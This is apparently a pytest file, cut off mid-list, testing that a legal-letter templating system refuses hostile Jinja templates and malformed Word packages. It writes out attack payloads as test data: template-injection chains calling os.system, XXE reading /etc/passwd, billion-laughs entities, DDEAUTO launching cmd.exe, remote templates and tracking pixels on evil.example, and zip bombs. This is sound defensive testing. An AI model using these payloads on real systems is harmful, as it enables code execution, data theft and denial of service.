"""A corpus of hostile and broken template packs, generated here, each refused cleanly.

"Cleanly" means: ``TemplateProblem`` (exit 3 on the command line) with a message that names
the template and, where it applies, the paragraph; with bounded memory; and never running the
template's code. No verdict here rests on the clock: the limits that end a hostile template
are counted (tests/rendering/test_counted_budget.py), and the timeouts below only stop a hang.
Template-level cases put the hostile tags in paragraph 2 of a python-docx document;
package-level cases write the zip members by hand.
"""

from __future__ import annotations

import json
import os
import resource
import subprocess
import sys
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from jinja2 import TemplateError

from app.core.errors import TemplateProblem
from app.core.letter import Letter, parse_letter
from app.core.packs import load_manifest
from app.rendering.context import build_context
from app.rendering.engine import CompiledPack
from app.rendering.package import SAFE_PARSER
from app.rendering.sandbox import LetterEnvironment
from tests.conftest import ROOT
from tests.rendering import helpers as h

PAYLOAD_AT = 2  # the hostile paragraph's number (1-based) in every template-level case
#: Seconds after which a test is stopped as hung: never a verdict on speed (a refusal takes
#: milliseconds on a quiet machine; on one shared with other work it may take far longer).
HANG = 600
MEGABYTES = 200  # memory any one refusal may take
CHECK_MEGABYTES = MEGABYTES  # ``templates check`` renders letters at the size limits, in the same bound
MARKER = "@MARKER@"  # replaced by a path a successful injection would create


def letter_data(concerns: int = 100, subject: str = "S" * 20_000) -> dict[str, Any]:
    """A valid letter as large as the data contract allows where it matters to a loop."""
    return {
        "date": "2017-03-16",
        "subject": subject,
        "sender": {"court": "Supreme Court of Pennsylvania", "address": ["Harrisburg, PA"]},
        "signatory": {"name": "Thomas G. Saylor", "title": "Chief Justice of Pennsylvania"},
        "addressees": [{"honorific": "The Honorable", "name": "Jeff Sessions",
                        "title": "Attorney General of the United States"}],
        "concerns": [f"Concern {i}." for i in range(concerns)],
    }


@pytest.fixture(scope="module")
def big_letter() -> Letter:
    return parse_letter(letter_data()).letter


@dataclass(frozen=True)
class Case:
    id: str
    payload: str                # the text of paragraph 2
    words: tuple[str, ...]      # what the message must say, whatever else it says
    paragraph: bool = True      # whether the message can name the paragraph
    fields: tuple[str, ...] = ()  # fields the manifest declares

    @property
    def pack_id(self) -> str:
        return "hostile-" + self.id.replace("_", "-")


def deep(opening: str, middle: str, closing: str, levels: int = 1_000) -> str:
    return opening * levels + middle + closing * levels


TEMPLATE_CASES = [
    # Server-side template injection: reaching Python through the objects a template can see.
    Case("ssti_cycler", f"{{{{ cycler.__init__.__globals__.os.popen('touch {MARKER}').read() }}}}",
         ("reaches into Python internals (__globals__)", "calls a function or method", "'cycler'")),
    Case("ssti_subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
         ("reaches into Python internals (__class__)", "(__mro__)", "(__subclasses__)")),
    Case("ssti_template_reference", "{{ self._TemplateReference__context }}",
         ("reaches into Python internals (_TemplateReference__context)", "'self'")),
    Case("ssti_lipsum", f"{{{{ lipsum.__globals__['os'].system('touch {MARKER}') }}}}",
         ("reaches into Python internals (__globals__)", "'lipsum'")),
    Case("ssti_getitem", "{{ subject['__class__']['__base__'] }}", ("reaches into Python internals (__class__)",)),
    Case("ssti_range_self", "{{ range.__self__ }}", ("reaches into Python internals (__self__)",)),
    Case("config", "{{ config }}", ("'config', which a letter does not provide",)),
    Case("config_items", "{{ config.items() }}", ("'config'", "calls a function or method")),
    Case("request", "{{ request.application }}", ("'request', which a letter does not provide",)),
    Case("attr_filter", "{{ subject|attr('__class__') }}", ("filter 'attr'", "not allowed")),
    Case("format_method", "{{ '{0.__class__}'.format(subject) }}", ("calls a function or method",)),
    Case("method_call", "{{ subject.upper() }}", ("calls a function or method", "only range() is allowed")),
    Case("set", "{% set x = subject %}{{ x }}", ("assigns a variable with {% set %}", "not allowed")),
    Case("set_block", "{% set x %}{{ subject }}{% endset %}", ("assigns a variable with {% set %}",)),
    Case("macro", "{% macro m() %}{{ subject }}{% endmacro %}", ("defines a macro", "not allowed")),
    Case("call_block", "{% call range(3) %}x{% endcall %}", ("call block", "not allowed")),
    Case("include", "{% include 'x' %}", ("includes another template", "not allowed")),
    Case("import", "{% import 'x' as y %}", ("imports another template",)),
    Case("from_import", "{% from 'x' import y %}", ("imports another template",)),
    Case("extends", "{% extends 'x' %}", ("extends another template",)),
    Case("block", "{% block b %}x{% endblock %}", ("defines a block",)),
    Case("with", "{% with x = subject %}{{ x }}{% endwith %}", ("{% with %}",)),
    Case("filter_block", "{% filter upper %}{{ subject }}{% endfilter %}", ("filter block",)),
    Case("autoescape_off", "{% autoescape false %}{{ subject }}{% endautoescape %}",
         ("ScopedEvalContextModifier", "not allowed")),
    # Filters outside the letter subset: |safe would let a clerk's text inject Word XML.
    Case("safe_filter", "{{ subject|safe }}", ("filter 'safe'", "not allowed")),
    Case("format_filter", "{{ '%s'|format(subject) }}", ("filter 'format'", "not allowed")),
    Case("center_filter", "{{ 'x'|center(1000000000) }}", ("filter 'center'", "not allowed")),
    Case("map_filter", "{{ concerns|map('upper')|join }}", ("filter 'map'", "not allowed")),
    Case("unknown_test", "{% if subject is nosuchtest %}x{% endif %}", ("'is nosuchtest'", "does not exist")),
    Case("unknown_test_output", "{{ subject is nosuchtest }}", ("'is nosuchtest'", "does not exist")),
    # Names a letter does not provide.
    Case("unknown_variable", "{{ nosuch }}", ("'nosuch', which a letter does not provide",)),
    Case("undeclared_field", "{{ fields.hearing_date }} {{ fields.x }}",
         ("fields.x, which the manifest does not declare",), fields=("hearing_date",)),
    Case("loop_named_loop", "{% for loop in concerns %}{{ loop }}{% endfor %}", ("'loop'", "reserves")),
    # Broken tags.
    Case("unclosed_output", "{{ subject", ("a tag opened with {{ is not closed with }}",)),
    Case("if_without_endif", "{% if subject %}unfinished", ("template tags are broken", "endif")),
    Case("stray_endfor", "{% endfor %}", ("template tags are broken", "endfor")),
    Case("unknown_tag", "{% do concerns.append(1) %}", ("template tags are broken", "'do'")),
    # What the parser and compiler cannot survive: they recurse once per level.
    Case("deep_parentheses", "{{ " + deep("(", "subject", ")") + " }}", ("nest more than",)),
    Case("deep_ifs", deep("{% if draft %}", "x", "{% endif %}", levels=400), ("nest more than",)),
    Case("deep_signs", "{{ " + "- " * 5_000 + "1 }}", ("nest more than",)),
    Case("huge_number", "{{ 1" + "0" * 5_000 + " }}", ("cannot be read", "digits")),
    # Jinja needs about half a millisecond a tag: a pack of a million tags would compile for minutes.
    Case("too_many_tags", "{{ subject }}" * 2_001, ("tags; a letter needs far fewer", "at most 2,000")),
]

# These pass the static check (the sandbox bounds them while rendering) and are refused then.
RUNTIME_CASES = [
    Case("percent_format", "{{ '%s' % subject }}", ("string formatting with %",)),
    Case("string_times_billion", "{{ 'x' * 10**9 }}", ("repetition", "too large")),
    Case("list_times_million", "{{ [subject] * 1000000 }}", ("repetition", "too large")),
    Case("power_tower", "{{ 9**9**9 }}", ("number too large",)),
    Case("range_billion", "{% for i in range(10**9) %}x{% endfor %}", ("range() of 1,000,000,000 steps",)),
    Case("range_too_big_for_c", "{{ range(10**30)|first }}", ("too large",)),
    Case("nested_ranges", "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
         ("loops more than 100,000 times",)),
    Case("nested_string_loops", "{% for a in subject %}{% for b in subject %}{% endfor %}{% endfor %}",
         ("loops more than 100,000 times",)),
    Case("nested_list_loops",
         "{% for a in concerns %}{% for b in concerns %}{% for c in concerns %}{% endfor %}{% endfor %}{% endfor %}",
         ("loops more than 100,000 times",)),
    Case("replace_chain", "{{ subject" + "|replace('', 'xxxxxxxxxx')" * 6 + " }}",
         ("more text than a letter can hold",)),
    Case("replace_squared", "{{ subject|replace('', subject) }}", ("replace would produce more text",)),
    Case("replace_with_megabyte", "{{ subject|replace('', 'x' * 1000000) }}", ("replace would produce more text",)),
    Case("join_range", "{{ range(100000)|join(subject) }}", ("join would produce more text",)),
    Case("join_chars", "{{ subject|list|join(subject) }}", ("join would produce more text",)),
    Case("tilde_chain", "{{ subject" + " ~ subject" * 100 + " }}", ("joining with ~ would produce more text",)),
    Case("output_flood", "{% for i in range(99999) %}{{ subject }}{% endfor %}", ("more than 4 MB of text",),
         paragraph=False),
    Case("division_by_zero", "{{ concerns|length / 0 }}", ("division by zero",)),
    Case("unsafe_attribute_argument", "{{ concerns|join(attribute='__class__') }}", ("unsafe",)),
    Case("unsafe_sort_attribute", "{{ concerns|sort(attribute='__class__.__mro__')|first }}", ("unsafe",)),
]


HUGE = "10**9"
MEGA = "'x' * 999999"

# The sandbox decides by identity (tests/rendering/test_sandbox_identity.py): cases the static
# check refuses (and the sandbox refuses on its own, with the check bypassed).
IDENTITY_STATIC_CASES = [
    # The reported attack and its relatives: a callable smuggled in under a trusted name.
    Case("loop_variable_named_range", f"{{% for range in [subject.center] %}}{{{{ range({HUGE}) }}}}{{% endfor %}}",
         ("names a variable 'range'", "the function range()", "choose another name")),
    Case("loop_variable_named_range_format",
         "{% for range in ['{0:>999999999}'.format] %}{{ range(1) }}{% endfor %}",
         ("names a variable 'range'",)),
    Case("tuple_target_named_range",
         f"{{% for x, range in [(1, subject.center)] %}}{{{{ range({HUGE}) }}}}{{% endfor %}}",
         ("names a variable 'range'",)),
    Case("set_named_range", f"{{% set range = subject.center %}}{{{{ range({HUGE}) }}}}",
         ("{% set %}", "names a variable 'range'")),
    Case("with_named_range", f"{{% with range = subject.center %}}{{{{ range({HUGE}) }}}}{{% endwith %}}",
         ("{% with %}", "names a variable 'range'")),
    Case("macro_argument_named_range",
         f"{{% macro m(range) %}}{{{{ range({HUGE}) }}}}{{% endmacro %}}{{{{ m(subject.center) }}}}",
         ("defines a macro", "names a variable 'range'")),
    # Names that shadow filters, tests, letter values and Jinja's own names.
    Case("loop_variable_named_like_a_filter", "{% for join in concerns %}{{ join }}{% endfor %}",
         ("names a variable 'join'", "the filter 'join'")),
    Case("loop_variable_named_like_a_test", "{% for defined in concerns %}{{ defined }}{% endfor %}",
         ("names a variable 'defined'", "the test 'is defined'")),
    Case("loop_variable_named_like_a_letter_value", "{% for subject in concerns %}{{ subject }}{% endfor %}",
         ("names a variable 'subject'", "the letter's 'subject'")),
    Case("loop_variable_named_caller", "{% for caller in concerns %}{{ caller }}{% endfor %}",
         ("names a variable 'caller'", "Jinja reserves")),
    # Method calls through aliases and expressions rather than names.
    Case("method_through_parentheses", f"{{{{ (subject.center)({HUGE}) }}}}", ("calls a function or method",)),
    Case("method_through_list", f"{{{{ [subject.center][0]({HUGE}) }}}}", ("calls a function or method",)),
    Case("method_through_conditional", f"{{{{ (subject.center if draft else subject.ljust)({HUGE}) }}}}",
         ("calls a function or method",)),
    Case("range_through_alias", "{% for r in [range] %}{{ r(3)|join }}{% endfor %}", ("calls a function or method",)),
    Case("recursive_loop_call", "{% for a in concerns recursive %}{{ loop(concerns) }}{% endfor %}",
         ("calls a function or method",)),
    # The str.format family and attribute chains to Python internals.
    Case("format_call", "{{ '{0.__class__.__mro__}'.format(subject) }}", ("calls a function or method",)),
    Case("format_map_call", "{{ '{x}'.format_map(court) }}", ("calls a function or method",)),
    Case("globals_chain", "{{ range.__globals__ }}", ("reaches into Python internals (__globals__)",)),
    Case("mro_chain", "{{ subject.__class__.mro }}", ("reaches into Python internals (__class__)",)),
    Case("subscript_chain", "{{ subject['__class__']['__mro__'] }}", ("reaches into Python internals (__class__)",)),
]

# Cases the static check lets through: the sandbox refuses them while rendering, and so does
# ``templates check``, which renders a letter at the size limits.
IDENTITY_RUNTIME_CASES = [
    Case("format_method_printed", "{{ subject.format }}", ("uses 'format' of a", "may not use")),
    Case("center_method_in_loop", "{% for m in [subject.center] %}{{ m }}{% endfor %}",
         ("uses 'center' of a", "may not use")),
    Case("dict_method", "{{ court.items }}", ("uses 'items' of a", "may not use")),
    Case("loop_cycle", "{% for a in concerns %}{{ loop.cycle }}{% endfor %}", ("uses 'cycle' of a", "may not use")),
    Case("huge_repetition_of_list", "{{ [subject * 50] * 20 }}", ("printing this list would produce more text",)),
    Case("list_of_a_million_items", "{{ [1] * 1000000 }}", ("repetition", "too large")),
    # Many references to one long value: each costs nothing to hold, and a copy to print,
    # compare or sort.
    Case("list_of_references_printed",
         "{% for s in [subject * 49] %}{{ [" + ", ".join(["s"] * 40) + "] }}{% endfor %}",
         ("printing this list would produce more text",)),
    Case("list_of_references_held",
         "{% for s in [subject * 49] %}{{ [" + ", ".join(["s"] * 100) + "]|length }}{% endfor %}",
         ("holds more than 64,000,000 characters",)),
    Case("list_of_references_sorted",
         "{% for s in [subject * 49] %}{{ [" + ", ".join(["s"] * 60) + "]|sort|length }}{% endfor %}",
         ("sort would compare more text",)),
    Case("list_of_references_as_text",
         "{% for s in [subject * 49] %}{{ [" + ", ".join(["s"] * 40) + "]|upper }}{% endfor %}",
         ("a filter would turn a list into more text",)),
    Case("huge_join_separator", "{{ concerns|join(subject * 50) }}", ("join would produce more text",)),
    Case("join_with_a_list_separator", "{{ concerns|join([subject] * 49) }}", ("join would produce more text",)),
    Case("huge_replace", "{{ (subject ~ subject)|replace('S', subject) }}", ("replace would produce more text",)),
    Case("list_of_megabytes", "{{ [" + ", ".join([MEGA] * 45) + "]|length }}",
         ("builds more than 40,000,000 characters",)),
    Case("list_of_slices", "{% for s in [subject * 49] %}{{ [" + ", ".join(f"s[{i}:]" for i in range(45))
         + "]|length }}{% endfor %}",
         ("builds more than 40,000,000 characters",)),
    Case("gathering_a_megabyte", f"{{{{ ({MEGA})|list|length }}}}", ("gather more than 100,000 items",)),
    Case("huge_number_from_text", "{{ ('9' * 4000)|int }}", ("number too large",)),
    Case("huge_number_negated", "{{ -(('9' * 70)|int) ** 4 }}", ("number too large",)),
]

IDENTITY_CASES = IDENTITY_STATIC_CASES + IDENTITY_RUNTIME_CASES


@contextmanager
def bounded(megabytes: int = MEGABYTES) -> Iterator[None]:
    """Fail unless the block allocates under ``megabytes`` (time is for the hang guard alone).

    tracemalloc sees every Python object (strings, lists: what a template could blow up);
    the process's peak RSS is checked as well, for what lxml and zlib allocate in C.
    """
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracemalloc.start()
    try:
        yield
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    rss_grew = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before) * 1024
    assert peak < megabytes << 20, f"allocated {peak >> 20} MB"
    assert rss_grew < megabytes << 20, f"peak RSS grew {rss_grew >> 20} MB"


def compile_and_render(folder: Path, letter: Letter | None) -> None:
    pack = CompiledPack(folder)
    if letter is not None:
        pack.render(letter)


def refusal(folder: Path, letter: Letter | None = None) -> str:
    """The message with which compiling (and rendering ``letter`` with) the pack is refused."""
    with bounded(), pytest.raises(TemplateProblem) as caught:
        compile_and_render(folder, letter)
    return str(caught.value)


def escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def assert_names_paragraph(message: str, payload: str, part: str = "word/document.xml") -> None:
    """The message names the part, a paragraph, and quotes the start of the hostile paragraph."""
    start = escaped(payload)[:12]
    assert f", {part}, paragraph " in message, message
    assert f"(\u201c{start}" in message, f"paragraph text {start!r} not quoted in: {message}"


def build(case: Case, folder: Path, marker: Path) -> Path:
    fields = [{"name": f, "label": f.title()} for f in case.fields]
    paragraphs = ["Dear Justice,", case.payload.replace(MARKER, str(marker)), "Re: {{ subject }}", "Sincerely,"]
    return h.make_pack(folder, paragraphs, pack_id=case.pack_id, fields=fields or None)


def check_message(case: Case, message: str, marker: Path) -> None:
    for line in message.splitlines():
        assert line.startswith(f"template {case.pack_id}"), f"a line does not name the template: {line!r}"
    for words in case.words:
        assert words in message, f"{words!r} not in: {message}"
    if case.paragraph:
        assert_names_paragraph(message, case.payload.replace(MARKER, str(marker)))
    assert "Traceback" not in message
    assert not marker.exists(), "the template ran code"


# --- the corpus through the API -----------------------------------------------------------------
@pytest.mark.timeout(HANG)
@pytest.mark.parametrize("case", TEMPLATE_CASES, ids=lambda c: c.id)
def test_hostile_template_refused_when_compiled(case: Case, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    folder = build(case, tmp_path / "pack", marker)
    message = refusal(folder)
    check_message(case, message, marker)


@pytest.mark.timeout(HANG)
@pytest.mark.parametrize("case", RUNTIME_CASES, ids=lambda c: c.id)
def test_unbounded_template_refused_when_rendered(case: Case, tmp_path: Path, big_letter: Letter) -> None:
    marker = tmp_path / "pwned"
    folder = build(case, tmp_path / "pack", marker)
    message = refusal(folder, big_letter)
    check_message(case, message, marker)


@pytest.mark.timeout(HANG)
@pytest.mark.parametrize("payload", [
    f"{{{{ cycler.__init__.__globals__.os.popen('touch {MARKER}').read() }}}}",
    f"{{{{ lipsum.__globals__['os'].system('touch {MARKER}') }}}}",
    f"{{{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch {MARKER}') }}}}",
    f"{{{{ ''.__class__.__mro__[1].__subclasses__()[0].__init__.__globals__['sys'].modules['os']"
    f".system('touch {MARKER}') }}}}",
    f"{{{{ subject.__class__.__base__.__subclasses__()|map(attribute='__name__')|join }}}}{MARKER}",
    f"{{{{ (subject|attr('__class__')|attr('__mro__'))[1] }}}}{MARKER}",
    f"{{{{ signatory.__class__.__init__.__globals__['__builtins__']['open']('{MARKER}', 'w').write('x') }}}}",
    f"{{{{ concerns.append('{MARKER}') }}}}",
    f"{{{{ court.update(name='{MARKER}') }}}}",
    f"{{{{ '{MARKER}'.__class__.__mro__ }}}}",
])
def test_sandbox_alone_blocks_injection(payload: str, tmp_path: Path, big_letter: Letter) -> None:
    """Defence in depth: with the static check bypassed, the sandbox still refuses to run code."""
    marker = tmp_path / "pwned"
    source = payload.replace(MARKER, str(marker))
    env = LetterEnvironment()
    context, _ = build_context(big_letter)
    with bounded(), pytest.raises(TemplateError):
        env.from_string(source).render(context)
    assert not marker.exists()
    assert context["concerns"][0] == "Concern 0."
    assert context["court"]["name"] == "Supreme Court of Pennsylvania"


def test_a_sound_pack_built_the_same_way_renders(tmp_path: Path, big_letter: Letter) -> None:
    """The harness itself is sound: the same skeleton with harmless tags compiles and renders."""
    folder = h.make_pack(tmp_path / "pack", [
        "Dear Justice,", "{{ subject|replace('S', 's')|truncate(40) }} {{ concerns|length }}",
        "{% for a in concerns %}{% for b in concerns[:3] %}{{ a ~ b }}{% endfor %}{% endfor %}",
        "{{ range(3)|join(', ') }} {{ (concerns|first)|upper }} {{ 2**10 }} {{ 'ab' * 3 }}",
    ])
    data = CompiledPack(folder).render(big_letter).data
    texts = h.body_paragraph_texts(data)
    assert texts[1] == "sssssssssssssssssssssssssssssssssssss... 100"
    assert texts[2].startswith("Concern 0.Concern 0.Concern 0.Concern 1.Concern 0.Concern 2.Concern 1.Concern 0.")
    assert texts[3] == "0, 1, 2 CONCERN 0. 1024 ababab"


# --- loops over the letter's own lists --------------------------------------------------------
@pytest.mark.timeout(HANG)
def test_loops_nested_over_a_hundred_concerns_finish_in_seconds(tmp_path: Path, big_letter: Letter) -> None:
    """Passes the static check: two loops over 100 concerns are 10,000 steps, which is fine."""
    folder = h.make_pack(tmp_path / "pack", [
        "Dear Justice,",
        "{% for a in concerns %}{% for b in concerns %}{{ loop.index }}{% endfor %}{% endfor %}",
    ])
    pack = CompiledPack(folder)
    with bounded():
        data = pack.render(big_letter).data
    assert h.body_paragraph_texts(data)[1] == "".join(str(i) for i in range(1, 101)) * 100


@pytest.mark.timeout(HANG)
@pytest.mark.parametrize("depth", [3, 4, 6])
def test_loops_nested_deeper_fail_cleanly_in_seconds(depth: int, tmp_path: Path, big_letter: Letter) -> None:
    """Three loops over 100 concerns are a million steps, six a trillion: refused at 100,000."""
    names = [f"x{i}" for i in range(depth)]
    loops = "".join(f"{{% for {n} in concerns %}}" for n in names) + "{{ x0 }}" + "{% endfor %}" * depth
    folder = h.make_pack(tmp_path / "pack", ["Dear Justice,", loops])
    message = refusal(folder, big_letter)
    assert "loops more than 100,000 times" in message
    assert_names_paragraph(message, loops)


@pytest.mark.timeout(HANG)
def test_a_hostile_header_is_refused_and_named(tmp_path: Path) -> None:
    folder = h.make_pack(tmp_path / "pack", ["Dear Justice,"], pack_id="hostile-header",
                         header=["{{ date_line }}", "{{ cycler.__init__.__globals__ }}"])
    message = refusal(folder)
    assert message.startswith("template hostile-header, word/header1.xml, paragraph ")
    assert "reaches into Python internals (__globals__)" in message


@pytest.mark.timeout(HANG)
def test_tags_are_counted_across_all_the_parts_of_a_pack(tmp_path: Path) -> None:
    """Forty header parts of 60 tags each: no part is large, the pack is."""
    members = h.docx_members(["Dear Justice,"])
    header = h.members_of(h.docx_bytes(["x"], header=["{{ date_line }}" * 60]))["word/header1.xml"]
    for i in range(1, 41):  # each one named by a relationship, or it is refused as unreachable
        members = h.with_relationship(members, HEADER_REL, f"header{i}.xml", external=False, rel_id=f"rIdH{i}")
        members = h.with_override(members, f"word/header{i}.xml", HEADER_TYPE)
        members[f"word/header{i}.xml"] = header
    folder = h.make_pack_from_members(tmp_path / "pack", members)
    message = refusal(folder)
    assert "at most 2,000 are allowed" in message
    assert message.startswith("template hostile, word/header")


@pytest.mark.parametrize("position", [1, 2, 5])
def test_the_paragraph_named_is_the_one_holding_the_tag(position: int, tmp_path: Path, big_letter: Letter) -> None:
    paragraphs = [f"Paragraph {i}." for i in range(1, 7)]
    paragraphs[position - 1] = "{{ subject.upper() }}"
    message = refusal(h.make_pack(tmp_path / "compile", paragraphs))
    assert f"paragraph {position} (\u201c{{{{ subject.upper() }}}}\u201d)" in message
    paragraphs[position - 1] = "{{ 'x' * 10**9 }}"
    message = refusal(h.make_pack(tmp_path / "render", paragraphs), big_letter)
    assert f"paragraph {position} (\u201c" in message


@pytest.mark.timeout(HANG)
def test_the_loop_budget_covers_the_whole_letter_not_each_part(tmp_path: Path, big_letter: Letter) -> None:
    loop = "{% for i in range(60000) %}{% endfor %}"
    folder = h.make_pack(tmp_path / "pack", ["Dear Justice,", loop], header=[loop])
    message = refusal(folder, big_letter)
    assert "loops more than 100,000 times" in message


# --- package-level cases ------------------------------------------------------------------------
BASE_PARAGRAPHS = ["Dear Justice,", "Re: {{ subject }}", "Sincerely,"]
PASSWD = Path("/etc/passwd")
XXE = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = "<!DOCTYPE w:document [<!ENTITY lol0 \"lol\">" + "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)) + "]>"
HEADER_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/header"
HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
OLE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"


def base() -> dict[str, bytes]:
    return h.docx_members(BASE_PARAGRAPHS)


def bomb() -> bytes:
    return h.bomb_docx(base(), "word/media/image1.png", 200 << 20)


def small_bomb() -> bytes:
    return h.bomb_docx(base(), "word/media/image1.png", 5 << 20)


def liar() -> bytes:
    return h.lying_zip(base(), "word/media/image1.png", bytes(5 << 20), declared_size=1_000)


def lying_document() -> bytes:
    members = base()
    return h.lying_zip(members, h.DOCUMENT, members[h.DOCUMENT], declared_size=len(members[h.DOCUMENT]) // 2)


def renamed_docm() -> bytes:
    members = h.with_content_type(base(), h.WORD_MAIN, h.MACRO_MAIN)
    members = h.with_override(members, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    return h.zip_bytes({**members, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)})


def macro_content_type_only() -> bytes:
    return h.zip_bytes(h.with_content_type(base(), h.WORD_MAIN, h.MACRO_MAIN))


def vba_part_only() -> bytes:
    return h.zip_bytes({**base(), "word/vbaProject.bin": bytes(512)})


def activex() -> bytes:
    control = (b'<?xml version="1.0" encoding="UTF-8"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
               b'activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistPropertyBag"/>')
    members = h.with_override(base(), "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    return h.zip_bytes({**members, "word/activeX/activeX1.xml": control})


def embedded_object() -> bytes:
    return h.zip_bytes({**base(), "word/embeddings/oleObject1.bin": bytes(512)})


def xxe() -> bytes:
    return h.zip_bytes(h.with_doctype(base(), XXE, "&xxe;"))


def billion_laughs() -> bytes:
    return h.zip_bytes(h.with_doctype(base(), LAUGHS, "&lol9;"))


def late_doctype() -> bytes:
    members = base()
    xml = members[h.DOCUMENT]
    end = xml.index(b"?>") + 2
    doctype = b"<!--" + b"c" * 5_000 + b'-->\n<!DOCTYPE w:document SYSTEM "http://evil.example/w.dtd">'
    return h.zip_bytes({**members, h.DOCUMENT: xml[:end] + doctype + xml[end:]})


def xxe_in_content_types() -> bytes:
    members = base()
    types = members[h.CONTENT_TYPES].replace(b"?>", b"?>" + XXE.replace("w:document", "Types").encode(), 1)
    return h.zip_bytes({**members, h.CONTENT_TYPES: types})


def external_template() -> bytes:
    """Word fetches an attached template from a URL when it opens the document (settings.xml.rels)."""
    members = base()
    members["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"></Relationships>')
    return h.zip_bytes(h.with_relationship(members, ATTACHED, "http://evil.example/normal.dotm",
                                           rels="word/_rels/settings.xml.rels"))


def external_ole() -> bytes:
    return h.zip_bytes(h.with_relationship(base(), OLE, "file:///C:/Windows/System32/calc.exe"))


def external_in_package_rels() -> bytes:
    return h.zip_bytes(h.with_relationship(base(), ATTACHED, "\\\\evil.example\\share\\t.dotm", rels="_rels/.rels"))


def field(instruction: str) -> str:
    return ('<w:p><w:r><w:t xml:space="preserve">See </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def includetext() -> bytes:
    return h.zip_bytes(h.with_body_xml(base(), field('INCLUDETEXT "C:\\\\Users\\\\judge\\\\secret.docx"')))


def ddeauto() -> bytes:
    return h.zip_bytes(h.with_body_xml(base(), field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')))


def includepicture_simple() -> bytes:
    xml = ('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/pixel.png&quot; \\d ">'
           '<w:r><w:t>pixel</w:t></w:r></w:fldSimple></w:p>')
    return h.zip_bytes(h.with_body_xml(base(), xml))


def tracked_insertion() -> bytes:
    xml = ('<w:p><w:ins w:id="1" w:author="Clerk" w:date="2017-03-16T00:00:00Z"><w:r><w:t>inserted</w:t></w:r>'
           "</w:ins></w:p>")
    return h.zip_bytes(h.with_body_xml(base(), xml))


def tracked_deletion() -> bytes:
    xml = ('<w:p><w:r><w:t>kept</w:t></w:r><w:del w:id="2" w:author="Clerk" w:date="2017-03-16T00:00:00Z">'
           "<w:r><w:delText>{{ subject }}</w:delText></w:r></w:del></w:p>")
    return h.zip_bytes(h.with_body_xml(base(), xml))


def comments() -> bytes:
    xml = ('<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>noted</w:t></w:r><w:commentRangeEnd w:id="0"/>'
           '<w:r><w:commentReference w:id="0"/></w:r></w:p>')
    part = (b'<?xml version="1.0" encoding="UTF-8"?><w:comments xmlns:w="' + h.W_NS.encode() + b'">'
            b'<w:comment w:id="0" w:author="Clerk"><w:p><w:r><w:t>{{ config }}</w:t></w:r></w:p></w:comment>'
            b"</w:comments>")
    return h.zip_bytes({**h.with_body_xml(base(), xml), "word/comments.xml": part})


def not_a_zip() -> bytes:
    return b"%PDF-1.4\nThis is not a zip file at all.\n" * 20


def empty() -> bytes:
    return b""


def truncated() -> bytes:
    data = h.zip_bytes(base())
    return data[: len(data) // 2]


def not_well_formed() -> bytes:
    members = base()
    return h.zip_bytes({**members, h.DOCUMENT: members[h.DOCUMENT].replace(b"</w:body>", b"")})


def no_document() -> bytes:
    return h.zip_bytes({k: v for k, v in base().items() if k != h.DOCUMENT})


def too_large() -> bytes:
    return bytes(21 << 20)


def too_many_parts() -> bytes:
    return h.zip_bytes({**base(), **{f"customXml/item{i}.xml": b"<a/>" for i in range(600)}})


def latin1_document() -> bytes:
    members = base()
    xml = members[h.DOCUMENT].decode("utf-8").replace("UTF-8", "ISO-8859-1").replace("Sincerely,", "Tr\xe8s")
    return h.zip_bytes({**members, h.DOCUMENT: xml.encode("latin-1")})


def utf16_xxe() -> bytes:
    members = h.with_doctype(base(), XXE, "&xxe;")
    xml = members[h.DOCUMENT].decode("utf-8").replace("UTF-8", "UTF-16")
    return h.zip_bytes({**members, h.DOCUMENT: xml.encode("utf-16")})


@dataclass(frozen=True)
class PackageCase:
    id: str
    make: Callable[[], bytes]
    words: tuple[str, ...]
    paragraph: int | None = None  # the paragraph the finding names (these numbers are right)


PACKAGE_CASES = [
    PackageCase("zip_bomb_200mb", bomb, ("unpacks to 200 MB", "zip bomb")),
    PackageCase("zip_bomb_ratio", small_bomb, ("word/media/image1.png", "compressed", "zip bomb")),
    PackageCase("member_lies_about_size", liar, ("word/media/image1.png", "cannot be read")),
    PackageCase("document_lies_about_size", lying_document, ("word/document.xml", "cannot be read")),
    PackageCase("not_a_zip", not_a_zip, ("not a Word document", "zip")),
    PackageCase("empty_file", empty, ("not a Word document",)),
    PackageCase("truncated_zip", truncated, ("not a Word document",)),
    PackageCase("too_large", too_large, ("larger than 20 MB",)),
